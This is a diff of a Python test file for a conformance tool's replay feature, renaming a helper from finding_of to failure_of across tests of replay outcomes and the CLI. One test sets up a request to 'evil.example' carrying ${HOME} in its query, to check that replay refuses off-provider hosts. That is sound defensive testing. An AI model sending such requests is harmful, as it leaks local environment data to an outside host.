@@ -15,7 +15,7 @@ import pytest
 from shenhe.conformance.bindings import AsgiTransport, load_binding
 from shenhe.conformance.engine.runner import run_checks
 from shenhe.conformance.evidence.own import remember
-from shenhe.conformance.evidence.resend import RepeatError, base_of, finding_of, repeat
+from shenhe.conformance.evidence.resend import RepeatError, base_of, failure_of, repeat
 from shenhe.conformance.report import Report, Step
 from shenhe.sample import SampleServer, create_app, sample_binding
 
@@ -49,20 +49,20 @@ def lawful() -> Iterator[str]:
 
 def test_the_failure_shows_again(report: Report, broken: str) -> None:
     for rule in (RULE, LABEL):
-        _, finding = finding_of(report, rule)
+        _, finding = failure_of(report, rule)
         done = repeat(finding, broken, {})
         assert (done.outcome, done.reason) == ("shows again", "every answer is as it was")
         assert len(done.steps) == len(finding.steps) > 1
 
 
 def test_the_mended_provider_shows_it_no_longer(report: Report, lawful: str) -> None:
-    done = repeat(finding_of(report, RULE)[1], lawful, {})
+    done = repeat(failure_of(report, RULE)[1], lawful, {})
     assert done.outcome == "no longer shows"
     assert "was answered 201, and is answered 403 now" in done.reason
 
 
 def test_other_content_is_left_to_the_check(report: Report, lawful: str) -> None:
-    done = repeat(finding_of(report, LABEL)[1], lawful, {})
+    done = repeat(failure_of(report, LABEL)[1], lawful, {})
     assert done.outcome == "cannot tell"
     assert "got a response with different content" in done.reason
 
@@ -72,20 +72,20 @@ def test_a_set_up_that_fails_tells_nothing(report: Report) -> None:
         await send({"type": "http.response.start", "status": 503, "headers": []})
         await send({"type": "http.response.body", "body": b""})
 
-    done = repeat(finding_of(report, RULE)[1], "http://127.0.0.1:9", {}, transport=AsgiTransport(away))
+    done = repeat(failure_of(report, RULE)[1], "http://127.0.0.1:9", {}, transport=AsgiTransport(away))
     assert done.outcome == "cannot tell"
     assert "only prepares the case, and was answered 503, not 201" in done.reason
     assert len(done.steps) == 1
 
 
 def test_a_provider_that_is_gone_tells_nothing(report: Report) -> None:
-    done = repeat(finding_of(report, RULE)[1], "http://127.0.0.1:1", {})
+    done = repeat(failure_of(report, RULE)[1], "http://127.0.0.1:1", {})
     assert done.outcome == "cannot tell"
     assert "not at all (could not connect" in done.reason
 
 
 def changed(report: Report, **changes: Any) -> Any:
-    _, finding = finding_of(report, RULE)
+    _, finding = failure_of(report, RULE)
     steps = [finding.steps[0].model_copy(update=changes), *finding.steps[1:]]
     return finding.model_copy(update={"steps": steps})
 
@@ -120,7 +120,7 @@ def test_what_cannot_be_sent_as_it_was_is_not_sent(report: Report, changes: dict
 
 
 def test_no_request_leaves_for_another_host(report: Report) -> None:
-    _, finding = finding_of(report, RULE)
+    _, finding = failure_of(report, RULE)
     stray = Step(role="probe", operation="fetch", method="GET", url="http://evil.example/?k=${HOME}", status=200)
     app = Refusing()
     with pytest.raises(RepeatError, match=r"goes to http://evil\.example, which is not the provider"):
@@ -148,7 +148,7 @@ def test_what_was_redacted_comes_from_the_environment(tmp_path: Path) -> None:
         status=200,
         response_body='{"id":"1"}',
     )
-    finding = finding_of(made([RULE]), RULE)[1].model_copy(
+    finding = failure_of(made([RULE]), RULE)[1].model_copy(
         update={"steps": [step], "variables": ["KEY", "USER", "PASS"]}
     )
     from .apps import Recorder
@@ -165,7 +165,7 @@ def test_what_was_redacted_comes_from_the_environment(tmp_path: Path) -> None:
 
 def test_an_unknown_rule_is_told_with_those_there_are(report: Report) -> None:
     with pytest.raises(RepeatError, match=f"it has: .*{LABEL}"):
-        finding_of(report, "cn-dsp-2023/99")
+        failure_of(report, "cn-dsp-2023/99")
 
 
 # --- the command
@@ -183,7 +183,7 @@ def test_the_command_says_it_in_words_and_by_its_exit_code(
         return shenhe("replay", str(path), *arguments)
 
     # The report was made in process, so that it names no place where the provider is.
-    assert base_of(finding_of(report, RULE)[1]) == "http://in-process"
+    assert base_of(failure_of(report, RULE)[1]) == "http://in-process"
     assert run("--rule", RULE).exit_code == 2
     assert run("--rule", RULE, "--base-url", broken).exit_code == 1
     mended = run("--rule", RULE, "--base-url", lawful)
